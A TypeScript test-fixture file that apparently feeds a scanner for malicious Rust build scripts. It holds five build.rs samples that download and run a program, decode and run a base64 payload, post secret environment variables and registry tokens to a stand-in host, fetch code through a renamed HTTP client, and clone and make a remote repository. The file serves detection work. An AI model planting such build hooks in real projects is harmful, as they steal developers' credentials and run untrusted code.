/** Build scripts that fetch what they run, or send away what they find. */
import { buildScript, encodedText, type Sample } from './sample.ts';

export const fetching: readonly Sample[] = [
  buildScript({
    name: 'download-and-run',
    imitates:
      'The build script downloads a program and starts it, as a poisoned dependency did on 2026-08-20.',
    shows: ['process', 'network', 'filesystem'],
    files: {
      'build.rs': `use std::env;
use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::Command;

const ADDRESS: &str = "https://payload.invalid/tools/prepare";

fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    let helper = env::temp_dir().join("prepare");
    if fetch(&helper) {
        fs::set_permissions(&helper, fs::Permissions::from_mode(0o755)).unwrap();
        let _ = Command::new(&helper).arg("--quiet").spawn();
    }
}

fn fetch(target: &Path) -> bool {
    Command::new("curl")
        .args(["-fsSL", "-o"])
        .arg(target)
        .arg(ADDRESS)
        .status()
        .map(|status| status.success())
        .unwrap_or(false)
}
`,
    },
  }),
  buildScript({
    name: 'encoded-payload',
    imitates:
      'The build script carries its payload in base64, writes it to the temporary folder and runs it.',
    shows: ['concealment', 'process', 'filesystem'],
    dependencies: { base64: { version: '0.22' } },
    files: {
      'build.rs': `use base64::{engine::general_purpose::STANDARD, Engine as _};
use std::io::Write;

static TABLE: &str = "${encodedText}";

fn main() {
    if let Ok(bytes) = STANDARD.decode(TABLE) {
        let path = std::env::temp_dir().join(".table");
        let mut file = std::fs::File::create(&path).expect("no table");
        file.write_all(&bytes).expect("no table");
        let _ = std::process::Command::new("/bin/sh").arg(&path).output();
    }
    println!("cargo::rerun-if-changed=build.rs");
}
`,
    },
  }),
  buildScript({
    name: 'environment-exfiltration',
    imitates: 'The build script collects variables with secrets and posts them over a socket of its own.',
    shows: ['environment', 'network'],
    files: {
      'build.rs': String.raw`use std::env;
use std::io::{Read, Write};
use std::net::TcpStream;
use std::time::Duration;

fn main() {
    let mut body = String::new();
    for (name, value) in env::vars() {
        if name.ends_with("_TOKEN") || name.starts_with("AWS_") || name.contains("SECRET") {
            body.push_str(&format!("{name}={value}\n"));
        }
    }
    if let Ok(token) = env::var("CARGO_REGISTRY_TOKEN") {
        body.push_str(&token);
    }
    let _ = report(&body);
}

fn report(body: &str) -> std::io::Result<()> {
    let mut stream = TcpStream::connect("collect.invalid:80")?;
    stream.set_read_timeout(Some(Duration::from_secs(2)))?;
    write!(
        stream,
        "POST /v1/metrics HTTP/1.1\r\nHost: collect.invalid\r\nContent-Length: {}\r\n\r\n{}",
        body.len(),
        body
    )?;
    let mut answer = [0u8; 16];
    stream.read(&mut answer).map(|_| ())
}
`,
    },
  }),
  buildScript({
    name: 'renamed-client',
    imitates:
      'The manifest gives an HTTP client another name, and the build script fetches source code with it.',
    shows: ['network', 'codegen'],
    dependencies: { tables: { version: '2', package: 'ureq' } },
    files: {
      'build.rs': `use std::{env, fs, path::PathBuf};

fn main() -> Result<(), Box<dyn std::error::Error>> {
    let out = PathBuf::from(env::var("OUT_DIR")?);
    let rules = tables::get("https://rules.invalid/current.rs")
        .call()?
        .into_string()?;
    fs::write(out.join("rules.rs"), rules)?;
    Ok(())
}
`,
      'src/lib.rs': `//! Rules for splitting words.

include!(concat!(env!("OUT_DIR"), "/rules.rs"));
`,
    },
  }),
  buildScript({
    name: 'git-as-downloader',
    imitates: 'The build script clones a repository and runs what its makefile says.',
    shows: ['process', 'network'],
    files: {
      'build.rs': `use std::path::Path;
use std::process::{Command, Stdio};

fn main() {
    let checkout = Path::new("vendor/native");
    if !checkout.join("Makefile").exists() {
        let cloned = Command::new("git")
            .args(["clone", "--depth", "1", "--quiet"])
            .arg("https://git.invalid/native/native.git")
            .arg(checkout)
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .status();
        assert!(cloned.is_ok(), "the native sources are missing");
    }
    let _ = Command::new("make")
        .current_dir(checkout)
        .arg("prepare")
        .status();
}
`,
    },
  }),
];
